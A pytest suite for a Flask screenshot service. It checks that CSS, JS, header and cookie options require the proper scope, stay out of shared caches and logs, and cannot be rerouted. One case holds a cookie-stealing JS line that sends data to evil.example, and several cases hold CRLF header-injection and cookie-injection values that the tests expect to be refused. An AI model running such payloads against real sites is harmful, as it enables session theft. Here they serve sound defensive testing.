"""Options that change the page or say who asks: who may have them, and who learns of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from marshmallow import ValidationError

from blueprints.schemas import ScreenshotBody
from tests.support.access import folder_environment, make_key, signed, slug_of
from tests.support.answers import json_error
from tests.support.processes import wait_until
from tests.support.service import TARGET, running_app
from tests.support.upstream import Upstream
from tests.support.vectors import SIGNING_KEYS
from tests.support.vendors import play_vendors
from thumbnailer.keys import Scope
from thumbnailer.model import CaptureRequest, Cookie, capture_key

SECRET = "s3cr3t-of-the-caller"
POWERS: dict[str, Any] = {
    "css": f"/* {SECRET} */ body {{ color: red }}",
    "js": f"console.log('{SECRET}')",
    "headers": {"X-Token": SECRET},
    "cookies": {"session": SECRET},
}
BODY_ROUTES: dict[str, dict[str, Any]] = {
    "/screenshot": {"url": TARGET},
    "/screenshots": {"url": TARGET},
    "/screenshots/batch": {"urls": [TARGET], "async": True},
    "/persist": {"url": TARGET},
    "/pages": {"url": TARGET},
    "/api/screenshots": {"url": TARGET},
    "/v1/screenshot": {"url": TARGET},
}
ALL = (Scope.RENDER, Scope.PERSIST)


@pytest.fixture
def settings(upstream: Upstream, tmp_path: Path) -> dict[str, str]:
    return folder_environment(
        upstream.url,
        tmp_path,
        RATELIMIT_ENABLED="false",
        LOG_LEVEL="debug",
        SIGNING_KEYS=SIGNING_KEYS,
        PUBLIC_TARGETS="93.184.216.34",
    )


@pytest.fixture
def app(settings: dict[str, str]) -> Iterator[Flask]:
    with running_app(settings) as app:
        yield app


def shoot(client: FlaskClient, key: dict[str, str], **options: Any) -> Any:
    return client.post("/screenshot", json={"url": TARGET, **options}, headers=key, buffered=True)


@pytest.mark.parametrize("option", POWERS)
def test_every_door_asks_for_the_scope(app: Flask, upstream: Upstream, option: str) -> None:
    client, weak = app.test_client(), make_key(app, "weak", *ALL)
    strong = make_key(app, "strong", *ALL, Scope.SCRIPT)
    bodies = {path: body | {option: POWERS[option]} for path, body in BODY_ROUTES.items()}
    if option in ("headers", "cookies"):
        del bodies["/api/screenshots"]
    if option == "cookies":
        del bodies["/v1/screenshot"]  # where they are an array
    while_waiting = {"urls": [TARGET], option: POWERS[option]}
    for path, body in [*bodies.items(), ("/screenshots/batch", while_waiting)]:
        answer = client.post(path, json=body, headers=weak)
        if option == "css":
            assert answer.status_code < 300, path
        else:
            assert (answer.status_code, slug_of(answer)) == (403, "scope-missing"), path
    if option != "css":
        assert upstream.requests == ()
    for path, body in bodies.items():
        assert client.post(path, json=body, headers=strong).status_code < 300, path


@pytest.mark.parametrize(("option", "refused"), [("css", 401), ("js", 403)])
def test_neither_a_signature_nor_a_public_target_is_a_key(
    app: Flask, upstream: Upstream, option: str, refused: int
) -> None:
    client, query = app.test_client(), {"url": TARGET, option: POWERS[option]}
    assert client.get("/thumb", query_string=query).status_code == refused
    paths = ("/thumb", "/screenshot", "/screenshot/stream")
    assert [client.get(signed(path, **query)).status_code for path in paths] == [refused] * 3
    assert upstream.requests == ()
    strong = make_key(app, "strong", Scope.RENDER, Scope.SCRIPT)
    for path in paths:
        answer = client.get(path, query_string=query, headers=strong, buffered=True)
        assert answer.status_code == 200, path
        assert answer.headers["Cache-Control"].startswith("private"), path


def test_secrets_stand_in_no_url(app: Flask) -> None:
    client, key = app.test_client(), make_key(app, "admin", Scope.ADMIN)
    for option in ("headers", "cookies"):
        answer = client.get("/thumb", query_string={"url": TARGET, option: "a=b"}, headers=key)
        assert (answer.status_code, slug_of(answer)) == (400, "invalid-parameters")
        assert answer.get_json()["errors"] == {option: ["Is taken in a JSON body only, never in a URL."]}


@pytest.mark.parametrize("option", POWERS)
def test_nobody_else_gets_the_picture(app: Flask, upstream: Upstream, option: str) -> None:
    client, scopes = app.test_client(), (Scope.RENDER, Scope.SCRIPT)
    one, other = make_key(app, "one", *scopes), make_key(app, "other", *scopes)
    wish = {option: POWERS[option]}
    kinds = [
        shoot(client, one, **wish),
        shoot(client, one, **wish),
        shoot(client, other, **wish),
        shoot(client, other),
        client.get(signed("/screenshot", url=TARGET)),
    ]
    assert [answer.headers["X-Cache"] for answer in kinds] == ["MISS", "HIT", "MISS", "MISS", "HIT"]
    assert len(upstream.requests) == 3


@pytest.mark.parametrize("option", POWERS)
def test_nobody_is_kept_from_a_page_by_what_others_did_to_it(
    app: Flask, upstream: Upstream, option: str
) -> None:
    client, scopes = app.test_client(), (Scope.RENDER, Scope.SCRIPT)
    one, other = make_key(app, "one", *scopes), make_key(app, "other", *scopes)
    upstream.behave(json_error(404, {"error": "target_not_found", "message": "Gone."}), play_vendors)
    assert shoot(client, one, **{option: POWERS[option]}).status_code == 422
    assert shoot(client, one, **{option: POWERS[option]}).status_code == 422, "remembered for this one"
    assert len(upstream.requests) == 1
    assert shoot(client, one).status_code == 200
    assert shoot(client, other, **{option: POWERS[option]}).status_code == 200


def test_in_an_open_service_callers_are_told_apart_by_address(settings: dict[str, str]) -> None:
    with running_app(settings | {"SIGNING_KEYS": "", "PUBLIC_TARGETS": ""}) as app:
        client = app.test_client()

        def ask(address: str) -> Any:
            query = {"url": TARGET, "css": POWERS["css"]}
            environ = {"REMOTE_ADDR": address}
            return client.get("/thumb", query_string=query, environ_base=environ, buffered=True)

        answers = [ask(address) for address in ("198.51.100.1", "198.51.100.1", "198.51.100.2")]
    assert [answer.headers["X-Cache"] for answer in answers] == ["MISS", "HIT", "MISS"]
    assert all(answer.headers["Cache-Control"].startswith("private") for answer in answers)


def test_what_the_operator_chose_for_everybody_is_shared(settings: dict[str, str]) -> None:
    chosen = settings | {"PRESETS": "calm:css=video{display:none}", "PUBLIC_PRESETS": "calm"}
    with running_app(chosen) as app:
        client, query = app.test_client(), {"url": TARGET, "preset": "calm"}
        answers = [
            client.get("/thumb", query_string=query, buffered=True),
            client.get("/thumb", query_string=query, headers=make_key(app, "a"), buffered=True),
        ]
    assert [answer.headers["X-Cache"] for answer in answers] == ["MISS", "HIT"]


def test_the_upstream_is_told_and_the_log_is_not(
    app: Flask, upstream: Upstream, capfd: pytest.CaptureFixture[str]
) -> None:
    client, key = app.test_client(), make_key(app, "a", *ALL, Scope.SCRIPT)
    assert shoot(client, key, **POWERS).status_code == 200
    told = json.loads(upstream.requests[0].body)
    assert told["css"] == POWERS["css"]
    assert told["javascript"] == POWERS["js"]
    assert told["extraHeaders"] == {"x-token": SECRET}
    assert told["cookies"] == [{"name": "session", "value": SECRET, "domain": "93.184.216.34", "path": "/"}]
    upstream.behave(json_error(400, {"error": "bad", "message": f"What is {SECRET}?"}))
    refused = shoot(client, key, **POWERS, width=999)
    assert refused.status_code >= 400
    assert SECRET not in refused.get_data(as_text=True)
    job = client.post("/screenshots", json={"url": TARGET, **POWERS, "width": 998}, headers=key).get_json()
    wait_until(lambda: client.get(f"/jobs/{job['job_id']}", headers=key).get_json()["status"] == "failed")
    assert shoot(client, key, headers={"X-Token": f"{SECRET}\n"}).status_code == 400
    out = capfd.readouterr()
    assert SECRET not in out.out + out.err


def test_a_kept_page_names_its_secrets_and_tells_none(app: Flask, upstream: Upstream) -> None:
    client, key = app.test_client(), make_key(app, "a", *ALL, Scope.SCRIPT)
    made = client.post("/pages", json={"url": TARGET, **POWERS}, headers=key)
    page = made.get_json()
    assert page["options"]["cookies"] == {"session": "…"}
    assert page["options"]["headers"] == {"X-Token": "…"}
    changed = client.patch(f"/pages/{page['id']}", json={"refresh_seconds": 7200}, headers=key)
    assert changed.status_code == 202
    wait_until(lambda: client.get(f"/pages/{page['id']}", headers=key).get_json()["status"] == "ready")
    assert json.loads(upstream.requests[-1].body)["cookies"][0]["value"] == SECRET


@pytest.mark.parametrize(
    ("change", "refused"),
    [
        pytest.param({"url": "http://93.184.216.35/"}, ["cookies", "headers"], id="another host"),
        pytest.param({"url": TARGET.replace("http:", "https:")}, ["cookies", "headers"], id="another scheme"),
        pytest.param(
            {"url": TARGET.replace("/page", ":443/page")}, ["cookies", "headers"], id="another port"
        ),
        pytest.param({"js": "fetch('//evil.example/' + document.cookie)"}, ["cookies", "headers"], id="js"),
        pytest.param(
            {"url": "http://93.184.216.35/", "cookies": {"session": "another"}}, ["headers"], id="a part"
        ),
        pytest.param({"url": f"{TARGET}other"}, None, id="another page"),
        pytest.param({"css": "body { color: red }"}, None, id="css"),
        pytest.param(
            {
                "url": "http://93.184.216.35/",
                "cookies": {"session": "another"},
                "headers": {"X-Token": "another"},
            },
            None,
            id="given anew",
        ),
        pytest.param(
            {"url": "http://93.184.216.35/", "cookies": None, "headers": None}, None, id="taken away"
        ),
    ],
)
def test_what_lets_somebody_in_is_not_led_elsewhere_by_who_does_not_know_it(
    app: Flask, upstream: Upstream, change: dict[str, Any], refused: list[str] | None
) -> None:
    client, key = app.test_client(), make_key(app, "a", *ALL, Scope.SCRIPT)
    page = client.post("/pages", json={"url": TARGET, **POWERS}, headers=key).get_json()
    wait_until(lambda: client.get(f"/pages/{page['id']}", headers=key).get_json()["status"] == "ready")
    answer = client.patch(f"/pages/{page['id']}", json=change, headers=key)
    if refused is None:
        assert answer.status_code == 202, answer.text
        return
    assert answer.status_code == 400
    assert sorted(answer.get_json()["errors"]) == refused
    assert len(upstream.requests) == 1


def test_no_representation_and_no_other_key_has_what_is_private() -> None:
    cookies = (Cookie("session", SECRET, "example.com"),)
    request = CaptureRequest(
        url=TARGET, css=SECRET, js=SECRET, headers=(("x-token", SECRET),), cookies=cookies
    )
    assert SECRET not in repr(request)
    assert SECRET not in repr(cookies)
    plain = CaptureRequest(url=TARGET)
    others = [CaptureRequest(url=TARGET, partition=partition) for partition in ("key:a", "key:b")]
    assert len({capture_key(each) for each in (plain, request, *others)}) == 4


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("headers", {}),
        ("headers", []),
        ("headers", {"X A": "b"}),
        ("headers", {"X-A": "b\r\nX-C: d"}),
        ("headers", {"X-A": "ü"}),
        ("headers", {"X-A": 1}),
        ("headers", {"X-A": "b", "x-a": "c"}),
        ("headers", {"Host": "example.org"}),
        ("headers", {"Cookie": "a=b"}),
        ("headers", {"Content-Length": "0"}),
        ("headers", {"Proxy-Authorization": "a"}),
        ("headers", {"Transfer-Encoding": "chunked"}),
        ("headers", {f"X-{number}": "a" for number in range(21)}),
        ("headers", {"X-A": "a" * 4097}),
        ("cookies", {"a": "b; c=d"}),
        ("cookies", {"a b": "c"}),
        ("cookies", {"": "c"}),
        ("cookies", "a=b"),
        ("cookies", {str(number): "a" for number in range(51)}),
        ("css", ""),
        ("css", "a\x00"),
        ("js", "a" * 50_001),
        ("js", 1),
    ],
    ids=lambda value: str(value)[:30],
)
def test_what_is_no_header_cookie_or_program_is_refused_and_not_quoted(option: str, value: Any) -> None:
    with pytest.raises(ValidationError) as refused:
        ScreenshotBody().load({"url": TARGET, option: value})
    assert set(refused.value.normalized_messages()) == {option}  # type: ignore[no-untyped-call]  # marshmallow left it untyped
    assert "example.org" not in str(refused.value)


def test_programs_may_have_several_lines() -> None:
    program = "scrollTo(0, 0);\n\tdone();\r\n"
    assert ScreenshotBody().load({"url": TARGET, "js": program})["js"] == program
